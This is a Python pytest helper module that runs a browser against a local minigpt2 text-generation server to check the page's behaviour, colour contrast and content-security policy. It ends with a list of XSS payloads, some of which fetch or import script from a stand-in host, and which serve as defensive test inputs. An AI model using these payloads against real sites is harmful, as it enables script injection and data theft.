"""A real browser before the real server: opening pages, and what every test of a view asks them."""

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from urllib.parse import quote

import pytest

ROOT = Path(__file__).parent.parent.parent
BUILT = ROOT / "src/minigpt2/server/static/index.html"
BROWSER = shutil.which("chromium") or shutil.which("google-chrome")
# A model that writes on for ever, so that there is time to stop it; and one that refuses to.
SLIDING = [sys.executable, "-m", "minigpt2", "serve", "--port", "0", "--context-overflow", "slide"]
REFUSING = [*SLIDING[:-1], "error"]
SWITCHES = """--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-sync
  --disable-background-networking --disable-component-update""".split()
PICTURES = os.environ.get("MINIGPT2_SCREENSHOTS")
WATCH = """
  window.violations = [];
  addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
"""

needs_browser = [
    pytest.mark.slow,
    pytest.mark.skipif(BROWSER is None, reason="no chromium or google-chrome on PATH"),
    pytest.mark.skipif(not BUILT.exists(), reason="the page is not built: make page"),
]


@contextlib.contextmanager
def serving(command):
    """Run a server and yield its address, which it says on stderr."""
    process = subprocess.Popen(command, cwd=ROOT, stderr=subprocess.PIPE, text=True)
    said = []
    try:
        for line in process.stderr:
            said.append(line)
            if found := re.search(r"http://127\.0\.0\.1:\d+/", line):
                yield found[0]
                return
        pytest.fail("the server did not start: " + "".join(said))
    finally:
        process.terminate()
        process.stderr.close()
        process.wait(20)


def address_of(**state):
    return "&".join(f"{name}={quote(str(value))}" for name, value in state.items())


def text_of(page):
    return page.input_value("textarea")


def press(page, name):
    page.get_by_role("button", name=name, exact=True).click()


def wait_until(page, what, seconds=20):
    """Wait until something of the page holds, and return it."""
    end = time.monotonic() + seconds
    while not (found := what()):
        assert time.monotonic() < end, "what was waited for did not come"
        page.wait_for_timeout(20)
    return found


def idle(page):
    wait_until(page, lambda: page.get_by_role("button", name="Stop").count() == 0)
    return text_of(page)


def written(page, more_than=0):
    """Wait until the page has more text than so many characters, and return the text."""
    return wait_until(page, lambda: len(text_of(page)) > more_than and text_of(page))


def busy_with(address):
    with urllib.request.urlopen(f"{address}health") as answer:
        return sum(model["writing"] for model in json.load(answer)["models"].values())


def contrast(page):
    """Yield pairs of the page's colours, and their contrast as WCAG defines it."""

    def luminance(colour):
        channels = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return sum(w * c for w, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))

    def colour(name):
        value = page.evaluate(f"getComputedStyle(document.body).getPropertyValue('--{name}')")
        return value if len(value) == 7 else "#" + "".join(2 * c for c in value[1:])

    pairs = [(ink, ground) for ink in ("ink", "quiet", "accent") for ground in ("ground", "sheet")]
    pairs += [("on-accent", "accent"), ("warn", "warn-ground")]
    for pair in pairs:
        low, high = sorted(luminance(colour(name)) for name in pair)
        yield pair, (high + 0.05) / (low + 0.05)


# Every way to get markup, script or an address of somebody else's into a page that is not careful.
_SCRIPTS = ["alert(1)", "fetch('http://example.invalid/')", "import('http://example.invalid/x.js')"]
_CARRIERS = [
    "<script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "javascript:{}",
    "<iframe src=\"javascript:{}\"></iframe>", "\"><script>{}</script>", "'-{}-'", "${{{}}}",
    "</textarea><script>{}</script>", "<body onload=\"{}\">", "<details open ontoggle=\"{}\">",
    "<math><mtext><form><mglyph><svg><style><path id=\"</style><img onerror={} src>\">",
    "</title><script>{}</script>", "<style>@import 'http://example.invalid/{}';</style>",
]  # fmt: skip
_OTHERS = [
    "<link rel=stylesheet href=http://example.invalid/a.css>",
    "<img src=http://example.invalid/a.png>",
    "<base href=http://example.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://example.invalid/'>",
    "<form action=http://example.invalid/><button autofocus>x</button></form>",
    '{"__html":"<img src=x onerror=alert(1)>"}',
    "&lt;script&gt;alert(1)&lt;/script&gt;\x00\u202e\ud7ff",
    '\r\ndata: [DONE]\r\n\r\n<p style="background:url(http://example.invalid/)">',
]
PAYLOADS = [c.format(script) for c in _CARRIERS for script in _SCRIPTS] + _OTHERS
